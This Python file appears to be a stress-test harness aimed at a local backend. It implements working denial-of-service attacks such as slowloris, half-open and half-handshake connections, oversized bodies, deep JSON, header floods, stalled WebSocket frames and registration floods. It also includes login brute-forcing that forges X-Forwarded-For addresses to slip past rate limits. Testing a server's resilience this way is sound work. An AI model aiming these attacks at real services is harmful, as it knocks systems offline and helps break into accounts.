# SPDX-License-Identifier: LGPL-2.1-or-later
"""One attacker, inside the backend's host:  attacker.py KIND SECONDS [ARGUMENT…]

Does its worst for so long and prints what came of it, as a line of JSON.
"""
import asyncio
import json
import resource
import ssl
import sys
import time

HOST, PLAIN, TLS = "127.0.0.1", 8080, 8443
OWN = "127.0.0.2"                # limits are by network, and the others are elsewhere
REQUEST = b"POST /api/v1/users/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
end = 0.0
counts = {}


def count(name, n=1):
    counts[name] = counts.get(name, 0) + n


def running():
    return time.monotonic() < end


async def connect(port=PLAIN):
    for _ in range(50):
        try:
            return await asyncio.open_connection(HOST, port, local_addr=(OWN, 0))
        except OSError:
            count("refused")
            await asyncio.sleep(0.1)
    raise SystemExit("cannot connect")


async def many(n, f, *args):
    await asyncio.gather(*(f(*args) for _ in range(n)))


async def drip():
    """A request's head, a byte at a time."""
    while running():
        reader, writer = await connect()
        count("connections")
        try:
            for byte in REQUEST + b"X-Slow: " + b"a" * 10000:
                if not running():
                    return
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(0.5)
                if reader.at_eof():
                    break
            count("ended_by_server")
        except OSError:
            count("ended_by_server")
        finally:
            writer.close()


async def slow_loris(n="1000"):
    await many(int(n), drip)


async def open_slowly(attempts):
    tasks = []
    for k, attempt in enumerate(attempts):
        tasks.append(asyncio.create_task(attempt))
        if k % 200 == 199:
            await asyncio.sleep(0.02)
    await asyncio.gather(*tasks)


async def silent(port, first=b""):
    reader, writer = await connect(port)
    count("connections")
    writer.write(first)
    try:
        await asyncio.wait_for(reader.read(), max(0.1, end - time.monotonic()))
        count("ended_by_server")
    except (asyncio.TimeoutError, OSError):
        pass
    finally:
        writer.close()


async def half_open(n="10000"):
    """Connections that never say anything, half of them where TLS should begin."""
    await open_slowly(silent(TLS if k % 2 else PLAIN) for k in range(int(n)))


def client_hello():
    outgoing = ssl.MemoryBIO()
    context = ssl.create_default_context()
    try:
        context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


async def half_handshake(n="3000"):
    """Each costs the server a key exchange, and is left there."""
    hello = client_hello()
    await open_slowly(silent(TLS, hello) for _ in range(int(n)))


async def huge_body(size=str(1 << 30)):
    while running():
        for head in (b"Content-Length: " + size.encode() + b"\r\n\r\n", b"Transfer-Encoding: chunked\r\n\r\n"):
            reader, writer = await connect()
            count("requests")
            writer.write(REQUEST + head)
            sent, piece = 0, b"10000\r\n" + b"x" * 65536 + b"\r\n"
            try:
                while sent < int(size) and running() and not reader.at_eof():
                    writer.write(piece)
                    await writer.drain()
                    sent += 65536
            except OSError:
                pass
            answer = b""
            try:
                answer = await asyncio.wait_for(reader.read(4096), 5)
            except (OSError, asyncio.TimeoutError):
                pass
            count("status " + (answer[9:12].decode() or "none"))
            count("bytes", sent)
            writer.close()


async def exchange(data):
    reader, writer = await connect()
    count("requests")
    try:
        writer.write(data)
        await writer.drain()
        answer = await asyncio.wait_for(reader.read(4096), 10)
        count("status " + (answer[9:12].decode() or "none"))
    except (OSError, asyncio.TimeoutError):
        count("status none")
    finally:
        writer.close()


async def repeat(data):
    while running():
        await exchange(data)


async def deep_json():
    body = b"[" * 30000 + b"]" * 30000
    await many(20, repeat, REQUEST + b"Content-Length: %d\r\n\r\n" % len(body) + body)


async def header_flood():
    lines = b"".join(b"X-%d: %s\r\n" % (k, b"y" * 100) for k in range(2000))
    await asyncio.gather(many(10, repeat, REQUEST + lines + b"\r\n"), many(10, repeat, REQUEST + b"X: " + b"z" * 200000 + b"\r\n\r\n"))


async def log_ins():
    """Each guess costs the server a password hash."""
    body = b'{"email":"victim@example.org","password":"guess"}'
    await many(50, repeat, REQUEST + b"Content-Length: %d\r\n\r\n" % len(body) + body)


async def guesses(email):
    """At somebody's password, from all over a /64, through the proxy."""
    async def guess(n):
        while running():
            n += 1000
            body = b'{"email":"%s","password":"guess %d"}' % (email.encode(), n)
            await exchange(REQUEST + b"X-Forwarded-For: 2001:db8:0:f00::%x:%x\r\nContent-Length: %d\r\n\r\n" % (n >> 16, n & 0xffff, len(body)) + body)

    await asyncio.gather(*(guess(n) for n in range(50)))


async def leave_unfinished():
    upgrade = (b"GET /api/v1/agent/connect HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n")
    while running():
        reader, writer = await connect()
        count("connections")
        try:
            writer.write(upgrade)
            await reader.readuntil(b"\r\n\r\n")
            # Begun, never ended; as if it were to have a megabyte.
            writer.write(b"\x01\xff" + (1 << 20).to_bytes(8, "big") + bytes(4) + b"x" * 60000)
            await writer.drain()
            writer.write(b"x" * 60000)
            await asyncio.wait_for(reader.read(), max(0.1, end - time.monotonic()))
            count("ended_by_server")
        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()


async def unfinished_messages(n="1000"):
    """WebSockets that have not authenticated, and never end their first message."""
    await many(int(n), leave_unfinished)


async def leave_unread():
    while running():
        reader, writer = await connect()
        count("requests")
        try:
            writer.transport.pause_reading()
            writer.write(b"GET /api/v1/openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n")
            await asyncio.sleep(max(0.1, min(5, end - time.monotonic())))
        except OSError:
            pass
        finally:
            writer.transport.abort()


async def unread_answers(n="2000"):
    await many(int(n), leave_unread)


async def registrations(connections="66", per_second="50"):
    """Each costs the server a password hash, too, and needs no account."""
    turn, begin = iter(range(1 << 30)), time.monotonic()

    async def register():
        while running():
            n = next(turn)
            await asyncio.sleep(max(0, begin + n / float(per_second) - time.monotonic()))
            body = b'{"email":"flood%d-%d@example.org","password":"a long password"}' % (time.monotonic_ns(), n)
            await exchange(REQUEST.replace(b"login", b"register") + b"Content-Length: %d\r\n\r\n" % len(body) + body)

    await many(int(connections), register)


async def agent_flood(agent_id, api_key):
    """Results as fast as they are taken; what the server says is read, but never waited for."""
    import websockets
    async with websockets.connect(f"ws://{HOST}:{PLAIN}/api/v1/agent/connect", max_queue=None) as ws:
        await ws.send(json.dumps({"type": "auth", "payload": {"agent_id": agent_id, "api_key": api_key}}))
        await ws.recv()
        n = 0

        async def read():
            async for _ in ws:
                count("acks")

        reader = asyncio.create_task(read())
        try:
            while running():
                items = [{"service_name": f"s{k % 100}", "timestamp": "2026-01-01T00:00:00Z", "status": ("OK", "FAILURE")[(n + k) % 2],
                          "message": "x" * 500, "cursor": str(n + k)} for k in range(500)]
                await ws.send(json.dumps({"type": "status_batch", "payload": {"items": items}}))
                n += 500
        except websockets.ConnectionClosed as e:
            count(f"closed {e.code}")
        count("results", n)
        reader.cancel()


KINDS = {f.__name__: f for f in (slow_loris, half_open, half_handshake, huge_body, deep_json, header_flood, log_ins, guesses, registrations,
                                 unfinished_messages, unread_answers, agent_flood)}

if __name__ == "__main__":
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    end = time.monotonic() + float(sys.argv[2])
    asyncio.run(KINDS[sys.argv[1]](*sys.argv[3:]))
    print(json.dumps(counts))
